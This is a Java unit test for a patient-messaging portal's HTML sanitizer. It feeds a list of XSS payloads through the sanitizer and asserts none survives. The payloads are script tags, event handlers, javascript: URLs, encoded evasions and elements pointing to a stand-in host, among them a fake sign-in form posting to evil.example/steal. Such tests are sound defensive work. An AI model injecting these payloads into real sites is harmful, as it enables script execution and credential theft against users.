package io.securemessenger.portal.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;

/** A corpus of XSS payloads (OWASP's cheat sheet and common filter evasions) through the body sanitizer. */
class HtmlSanitizerTest {
    private static final List<String> PAYLOADS = List.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=password><button>Sign in</button></form>",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<p onmouseover=\"alert(1)\">hover</p>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
        "<a href=\"https://good.example/\" target=\"_blank\">ok</a>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>"
    );

    @Test
    void noPayloadShouldKeepAnythingThatRunsLoadsOrSubmits() {
        for (String payload : PAYLOADS) {
            String safe = HtmlSanitizer.sanitize("<p>Dear patient</p>" + payload).toLowerCase(Locale.ROOT);
            assertThat(safe).as(payload)
                .doesNotContain("<script").doesNotContain("javascript:").doesNotContain("vbscript:").doesNotContain("data:")
                .doesNotContain("<img").doesNotContain("<svg").doesNotContain("<iframe").doesNotContain("<object").doesNotContain("<embed")
                .doesNotContain("<form").doesNotContain("<input").doesNotContain("<style").doesNotContain("<link").doesNotContain("<meta")
                .doesNotContain("<base").doesNotContain("style=").doesNotContain("background=").doesNotContain("tracker.example")
                .doesNotContainPattern("\\son[a-z]+\\s*=")
                .contains("dear patient");
        }
    }

    @Test
    void formattingAndSafeLinksShouldSurvive() {
        String safe = HtmlSanitizer.sanitize("<h2>Results</h2><p>Your <b>biopsy</b> is <i>benign</i>.</p><ul><li>one</li></ul>"
            + "<table><tr><td>K</td><td>4.1</td></tr></table><a href=\"https://hospital.example/faq\">FAQ</a>");

        assertThat(safe).contains("<h2>Results</h2>").contains("<b>biopsy</b>").contains("<li>one</li>").contains("<td>4.1</td>")
            .contains("href=\"https://hospital.example/faq\"").contains("rel=\"noopener noreferrer nofollow\"");
    }
}
